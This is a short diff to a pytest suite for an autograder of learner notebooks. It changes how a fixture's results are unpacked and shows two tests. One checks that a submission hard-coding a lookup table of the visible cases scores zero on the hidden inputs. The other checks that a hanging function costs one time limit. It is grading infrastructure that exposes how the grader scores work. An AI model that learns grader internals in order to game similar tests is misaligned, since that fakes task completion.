 def test_a_lookup_table_of_the_visible_cases_fails_the_hidden_ones(autograded):
-    root, _, results = autograded
+    root, _, results, _, _ = autograded
     got = results[("kv_cache", "table")]["notebooks"]["kv_cache"]["grades"]
     assert got["test_kv_cache_bytes"] == 0.0 and got["test_KVCache"] == 4.0
     assert "hidden inputs" in _outputs(root, "kv_cache", "table")
@@ -570,7 +758,7 @@ def test_a_lookup_table_of_the_visible_cases_fails_the_hidden_ones(autograded):
 
 @pytest.mark.slow
 def test_a_hanging_function_costs_one_time_limit(autograded):
-    _, _, results = autograded
+    _, _, results, _, _ = autograded
     res = results[("causal_mask", "loop")]
     # the learner's own cell before the test that calls it (the kernel's limit), and ONE test; later tests
     # and the learner's later cells that call it are not run again (before: 30 s in every such cell, 180 s)
